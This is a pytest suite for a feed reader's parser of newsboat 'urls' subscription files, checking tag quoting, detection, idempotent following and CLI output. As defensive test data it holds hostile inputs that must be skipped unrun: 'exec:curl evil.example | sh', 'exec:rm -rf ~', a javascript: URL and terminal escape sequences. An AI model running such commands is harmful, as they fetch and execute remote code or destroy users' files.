"""newsboat's urls file: parsed without running anything, detected, followed, idempotently."""

from __future__ import annotations

import codecs
import json
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from store.feeds import Feed, FeedStore
from store.ingest.subscriptions import follow_urls_file
from store.ingest.urls_file import (
    MAX_LINE_CHARS,
    MAX_LINES,
    UrlsFeed,
    UrlsFileError,
    is_urls_file,
    looks_like_urls_text,
    parse_urls_file,
    parse_urls_text,
)
from store.paths import DataPaths
from store.text import clean_inline
from store.urls import safe_url
from tests.test_cli import run

NEWSBOAT = Path(__file__).resolve().parent / "data" / "newsboat"
URLS = NEWSBOAT / "urls"


def only_feed(text: str) -> UrlsFeed:
    parsed = parse_urls_text(text)
    assert parsed.skipped == ()
    [feed] = parsed.feeds
    return feed


BIDI_AND_BOM = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff")


def has_controls(text: str) -> bool:
    """Control characters (tab and newline too) or the bidi overrides that reorder text."""
    return any(unicodedata.category(c) == "Cc" or c in BIDI_AND_BOM for c in text)


# The parser


def test_the_fixture_file_gives_its_feeds_and_says_which_lines_it_skipped():
    parsed = parse_urls_file(URLS.read_bytes())
    by_url = {feed.url: feed for feed in parsed.feeds}
    assert list(by_url) == [
        "https://harbour.example/rss.xml",
        "http://cafe.example/rss.xml",
        "https://science.example/index.rdf",
        "https://escapes.example/feed",
    ]
    harbour = by_url["https://harbour.example/rss.xml"]
    # Listed twice (lines 4 and 14): one feed, with the tags of both lines.
    assert harbour.tags == ("news", "world news", "extra") and harbour.line == 4
    assert harbour.title == "The Harbour Gazette" and not harbour.hidden
    assert by_url["http://cafe.example/rss.xml"].tags == ("local", "food")
    science = by_url["https://science.example/index.rdf"]
    assert science.hidden and science.tags == ("science",)
    escapes = by_url["https://escapes.example/feed"]
    assert escapes.tags == ('tag "quoted" here', "back\\slash")
    assert escapes.title == "Title with a tab"
    assert [(line.line, line.reason) for line in parsed.skipped] == [
        (9, "query: feeds are saved searches, not subscriptions; not imported"),
        (10, "exec: feeds run commands; not imported"),
        (11, "filter: feeds run commands; not imported"),
        (12, "not an http or https URL: 'file:///var/log/rss_eventlog.xml'; not imported"),
    ]


@pytest.mark.parametrize(
    ("line", "tags"),
    [
        ("https://a.example/f one two", ("one", "two")),
        ("https://a.example/f\tone\t\ttwo  ", ("one", "two")),
        ('https://a.example/f "two words" plain', ("two words", "plain")),
        (r'https://a.example/f "say \"hi\""', ('say "hi"',)),
        (r'https://a.example/f "back\\slash" "new\nline"', ("back\\slash", "new line")),
        (r'https://a.example/f "unclosed \"quote', ('unclosed "quote',)),
        ('https://a.example/f "a"b', ("a", "b")),
        ('https://a.example/f a"b c', ('a"b', "c")),
        ('https://a.example/f "" dup dup', ("dup",)),
        ('https://a.example/f a#b "#quoted" # comment "not a tag"', ("a#b", "#quoted")),
        ("https://a.example/f   café   NFC\u0301", ("café", "NF\u0106")),
    ],
)
def test_tags_follow_newsboats_quoting(line: str, tags: tuple[str, ...]):
    assert only_feed(line).tags == tags


def test_a_tilde_tag_names_the_feed_and_the_first_one_counts():
    feed = only_feed('https://a.example/f news "~My  Title" "~Second" "~"')
    assert feed.title == "My Title" and feed.tags == ("news",)
    assert only_feed('https://a.example/f "~" news').title == ""


def test_a_bang_tag_hides_the_feed_in_newsboat_and_is_not_kept_as_a_tag():
    feed = only_feed('https://a.example/f "!" news "!hidden"')
    assert feed.hidden and feed.tags == ("news",)
    assert not only_feed("https://a.example/f news").hidden


def test_comments_and_blank_lines_are_neither_feeds_nor_skipped():
    parsed = parse_urls_text("# a comment\n\n   \t\n  # indented comment\r\n\n")
    assert parsed.feeds == () and parsed.skipped == ()


def test_crlf_lines_and_line_numbers():
    parsed = parse_urls_text("# one\r\nhttps://a.example/f x\r\n\r\nexec:rm -rf ~\r\n")
    assert [(feed.line, feed.tags) for feed in parsed.feeds] == [(2, ("x",))]
    assert [line.line for line in parsed.skipped] == [4]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ('"query:Unread:unread = \\"yes\\""', "query: feeds are saved searches"),
        ('query:Tech:tags # \\"tech\\"', "query: feeds are saved searches"),
        ("exec:~/bin/feed.sh", "exec: feeds run commands; not imported"),
        ('"exec:curl evil.example | sh"', "exec: feeds run commands; not imported"),
        ("EXEC:~/bin/feed.sh", "exec: feeds run commands; not imported"),
        ("filter:~/bin/f.sh:https://a.example/f tag", "filter: feeds run commands; not imported"),
        ("file:///var/log/feed.xml", "not an http or https URL: 'file:///var/log/feed.xml'"),
        ("javascript:alert(1)", "not an http or https URL: 'javascript:alert(1)'"),
        ("ftp://a.example/feed", "not an http or https URL"),
        ("a.example/feed.xml tag", "not an http or https URL: 'a.example/feed.xml'"),
        ("http:// tag", "not an http or https URL: 'http://'"),
    ],
)
def test_lines_that_are_not_http_feeds_are_skipped_with_a_reason(line: str, reason: str):
    parsed = parse_urls_text(f"https://kept.example/f\n{line}\n")
    assert [feed.url for feed in parsed.feeds] == ["https://kept.example/f"]
    [skipped] = parsed.skipped
    assert skipped.line == 2 and skipped.reason.startswith(reason)
    assert skipped.reason.endswith("; not imported")


def test_exec_and_filter_lines_are_never_run(tmp_path: Path):
    witness = tmp_path / "ran"
    text = (
        f'exec:touch {witness}\n"exec:touch {witness}"\nfilter:touch {witness}:http://a.example/\n'
    )
    parsed = parse_urls_text(text)
    assert parsed.feeds == () and len(parsed.skipped) == 3
    assert not witness.exists()


def test_control_characters_and_escape_sequences_are_stripped():
    line = (
        'https://a.example/f\x1b[2J "\x1b[31mred\x1b[0m" "bell\x07" "\u202eevil" '
        '"~\x1b]0;pwned\x07Title\x9b1m" "\x1b[1m!hidden"'
    )
    feed = only_feed(line)
    assert feed.url == "https://a.example/f"
    assert feed.tags == ("red", "bell", "evil")
    assert feed.title == "Title" and feed.hidden
    [skipped] = parse_urls_text("\x1b]0;title\x07gopher://\x1b[31ma.example/\x07\n").skipped
    assert not has_controls(skipped.reason)
    assert "gopher://a.example/" in skipped.reason


def test_a_huge_line_is_skipped_and_the_others_are_kept():
    huge = "https://a.example/" + "x" * MAX_LINE_CHARS + " tag"
    parsed = parse_urls_text(f"https://b.example/f\n{huge}\nhttps://c.example/f\n")
    assert [feed.url for feed in parsed.feeds] == ["https://b.example/f", "https://c.example/f"]
    [skipped] = parsed.skipped
    assert (
        skipped.line == 2
        and skipped.reason.startswith("line too long (8,")
        and ("the limit is 8,192" in skipped.reason)
    )


def test_a_long_reason_shows_only_the_start_of_the_url():
    [skipped] = parse_urls_text("gopher://a.example/" + "y" * 500).skipped
    assert len(skipped.reason) < 140 and "…" in skipped.reason


def test_too_many_lines_is_a_clear_error():
    parse_urls_text("# fine\n" * MAX_LINES)
    with pytest.raises(UrlsFileError, match=r"too many lines \(20,001; the limit is 20,000\)"):
        parse_urls_text("# too many\n" * (MAX_LINES + 1))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (bytes(range(256)) * 8, "binary file"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(1, 32)) * 20, "binary file"),
        (b"", "empty file"),
        (b" \n\t\n", "empty file"),
        (codecs.BOM_UTF8 + b"https://a.example/f \xff\xfe", "not valid UTF-8"),
    ],
)
def test_unreadable_files_are_refused_with_the_reason(data: bytes, message: str):
    with pytest.raises(UrlsFileError, match=message):
        parse_urls_file(data)


@pytest.mark.parametrize(
    "data",
    [
        "https://a.example/f café\n".encode("utf-16"),
        "https://a.example/f café\n".encode("utf-16-le"),
        "https://a.example/f café\n".encode("cp1252"),
        codecs.BOM_UTF8 + "https://a.example/f café\n".encode(),
    ],
)
def test_odd_encodings_decode_as_seed_files_do(data: bytes):
    [feed] = parse_urls_file(data).feeds
    assert feed.url == "https://a.example/f" and feed.tags == ("café",)


# Detection


def test_a_file_named_urls_is_a_urls_file_in_any_folder(tmp_path: Path):
    nested = tmp_path / "dotfiles" / "newsboat"
    nested.mkdir(parents=True)
    (nested / "urls").write_text("Not even feeds: a note I kept.\n")
    assert is_urls_file(nested / "urls")
    (tmp_path / "urls.bak").write_text("Not even feeds: a note I kept.\n")
    assert not is_urls_file(tmp_path / "urls.bak")
    (tmp_path / "folder" / "urls").mkdir(parents=True)
    assert not is_urls_file(tmp_path / "folder" / "urls")


def test_a_file_whose_every_line_is_a_feed_is_a_urls_file():
    assert is_urls_file(NEWSBOAT / "reading_feeds.txt")
    assert looks_like_urls_text('"query:Unread:unread = \\"yes\\""\nexec:x\nfilter:a:b\n')
    assert looks_like_urls_text("  HTTPS://A.EXAMPLE/F\n")


def test_a_seed_that_starts_with_a_url_stays_a_seed():
    seed = NEWSBOAT / "seed_starting_with_url.txt"
    assert seed.read_text().startswith("https://")
    assert not is_urls_file(seed)
    assert not looks_like_urls_text("https://a.example/story\nThe minister said on Tuesday…\n")


@pytest.mark.parametrize(
    "text", ["", "\n\n# only comments\n", "mailto:a@example.com\n", "www.example.com/feed\n"]
)
def test_text_without_feed_lines_is_not_a_urls_file(text: str):
    assert not looks_like_urls_text(text)


def test_markdown_is_never_read_as_a_urls_file():
    # In Markdown "#" starts a heading, and a list of links is an article.
    assert looks_like_urls_text((NEWSBOAT / "links.md").read_text())
    assert not is_urls_file(NEWSBOAT / "links.md")


def test_binary_and_missing_files_are_not_urls_files(tmp_path: Path):
    binary = tmp_path / "feeds.bin"
    binary.write_bytes(bytes(range(256)) * 8)
    assert not is_urls_file(binary)
    assert not is_urls_file(tmp_path / "missing.txt")


# Following


def test_following_a_urls_file_sets_tags_and_titles_and_is_idempotent(paths: DataPaths):
    with FeedStore(paths) as store:
        first = follow_urls_file(store, URLS.read_bytes())
    assert len(first.added) == 4 and first.already_followed == ()
    assert len(first.skipped) == 4
    before = paths.feeds_db.read_bytes()
    with FeedStore(paths) as store:
        harbour = store.by_url("https://harbour.example/rss.xml")
        assert harbour is not None
        assert harbour.title == "The Harbour Gazette"
        assert harbour.tags == ("news", "world news", "extra")
        again = follow_urls_file(store, URLS.read_bytes())
    assert again.added == () and len(again.already_followed) == 4
    assert paths.feeds_db.read_bytes() == before


def test_a_followed_feed_keeps_its_record_and_gains_the_listed_tags(paths: DataPaths):
    known = Feed.new(
        "https://harbour.example/rss.xml",
        title="Harbour (mine)",
        tags=("mine", "news"),
        full_text=True,
        etag='"v1"',
        added="2024-01-01T00:00:00+00:00",
    )
    untitled = Feed.new("http://cafe.example/rss.xml", added="2024-01-01T00:00:00+00:00")
    with FeedStore(paths) as store:
        store.put(known)
        store.put(untitled)
    data = (
        b'https://HARBOUR.example/rss.xml news extra "~Other"\nhttp://cafe.example/rss.xml "~Cafe"'
    )
    with FeedStore(paths) as store:
        report = follow_urls_file(store, data)
        assert report.added == ()
        harbour = store.get(known.id)
        cafe = store.get(untitled.id)
    assert harbour is not None and cafe is not None
    assert harbour.title == "Harbour (mine)" and harbour.full_text and harbour.etag == '"v1"'
    assert harbour.tags == ("mine", "news", "extra")
    assert harbour.url == known.url and harbour.added == known.added
    assert cafe.title == "Cafe"


# The command line


def test_import_of_a_urls_file_follows_its_feeds(
    paths: DataPaths, capsys: pytest.CaptureFixture[str]
):
    code, out, err = run(capsys, "import", str(URLS))
    assert code == 0
    assert "now following 4 more feeds (run: broadsheet refresh); 4 lines skipped" in out
    assert f"broadsheet: {URLS}:10: exec: feeds run commands; not imported" in err
    assert f"{URLS}:9: query: feeds are saved searches" in err
    assert f"{URLS}:11: filter: feeds run commands" in err
    code, out, _ = run(capsys, "list", "--json")
    assert len(json.loads(out)) == 1  # only the bundled seed: no junk article
    with FeedStore(paths) as store:
        titles = {feed.url: (feed.title, feed.tags) for feed in store.all()}
    assert titles["https://harbour.example/rss.xml"] == (
        "The Harbour Gazette",
        ("news", "world news", "extra"),
    )
    assert titles["https://science.example/index.rdf"] == ("", ("science",))


def test_import_json_of_a_urls_file_twice(capsys: pytest.CaptureFixture[str]):
    code, out, _ = run(capsys, "import", str(URLS), "--json")
    first = json.loads(out)
    assert code == 0
    assert list(first) == [
        "new",
        "updated",
        "unchanged",
        "feeds_followed",
        "feeds_already_followed",
        "failed",
        "skipped_lines",
    ]
    assert first["new"] == [] and first["failed"] == []
    assert first["feeds_followed"] == 4 and first["feeds_already_followed"] == 0
    assert first["skipped_lines"][1] == {
        "path": str(URLS),
        "line": 10,
        "reason": "exec: feeds run commands; not imported",
    }
    code, out, err = run(capsys, "import", str(URLS), "--json")
    again = json.loads(out)
    assert code == 0 and err == ""
    assert again["feeds_followed"] == 0 and again["feeds_already_followed"] == 4
    code, out, _ = run(capsys, "import", str(URLS))
    assert "now following 0 more feeds, 4 already followed" in out


def test_import_routes_each_file_by_what_it_is(capsys: pytest.CaptureFixture[str]):
    code, out, _ = run(
        capsys,
        "import",
        str(NEWSBOAT / "seed_starting_with_url.txt"),
        str(NEWSBOAT / "reading_feeds.txt"),
        "--json",
    )
    summary = json.loads(out)
    assert code == 0
    assert len(summary["new"]) == 1 and summary["feeds_followed"] == 2
    assert summary["skipped_lines"] == []
    _, out, _ = run(capsys, "list", "--json")
    titles = [article["title"] for article in json.loads(out)]
    assert any("Ferry strike ends after talks" in title for title in titles)


def test_an_unreadable_urls_file_fails_and_exits_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    urls = tmp_path / "urls"
    urls.write_bytes(bytes(range(256)) * 8)
    code, out, err = run(capsys, "import", str(urls), "--json")
    assert code == 1
    assert json.loads(out)["failed"] == [
        {"path": str(urls), "reason": "looks like a binary file, not text"}
    ]
    code, out, err = run(capsys, "import", str(urls))
    assert code == 1 and f"{urls}: skipped: looks like a binary file, not text" in err
    assert "now following 0 more feeds" in out


# Properties

NEWSBOATISH = st.text(alphabet=' \t"\\#~!:/abc\x1b[]\x07\u202eé\r\n', max_size=40)
LINE_STARTS = st.sampled_from(["", "https://a.example/", '"', "query:", "exec:", "#", "~"])


URLS_LIKE_TEXT = st.lists(st.tuples(LINE_STARTS, NEWSBOATISH)).map(
    lambda lines: "\n".join(start + rest for start, rest in lines)
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(), URLS_LIKE_TEXT))
def test_the_parser_only_ever_raises_its_own_error(text: str):
    try:
        parsed = parse_urls_text(text)
    except UrlsFileError:
        return
    line_count = text.count("\n") + 1
    for feed in parsed.feeds:
        assert safe_url(feed.url) == feed.url
        assert 1 <= feed.line <= line_count
        for value in (feed.title, *feed.tags):
            assert not has_controls(value)
            assert value == clean_inline(value)
    for skipped in parsed.skipped:
        assert 1 <= skipped.line <= line_count
        assert not has_controls(skipped.reason)


@settings(max_examples=200)
@given(st.binary(max_size=2000))
def test_bytes_only_ever_raise_its_own_error(data: bytes):
    try:
        parse_urls_file(data)
    except UrlsFileError as problem:
        assert str(problem)


@settings(max_examples=200)
@given(st.lists(st.text(min_size=1, max_size=20), max_size=6))
def test_tags_written_with_newsboats_quoting_read_back(tags: list[str]):
    quoted = (
        tag.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r")
        for tag in tags
    )
    feed = only_feed("https://a.example/f " + " ".join(f'"{tag}"' for tag in quoted))
    cleaned = [clean_inline(tag) for tag in tags]
    kept = [tag for tag in cleaned if tag and not tag.startswith(("~", "!"))]
    assert feed.tags == tuple(dict.fromkeys(kept))
    titles = [tag[1:].lstrip() for tag in cleaned if tag.startswith("~")]
    assert feed.title == next((title for title in titles if title), "")
    assert feed.hidden == any(tag.startswith("!") for tag in cleaned)
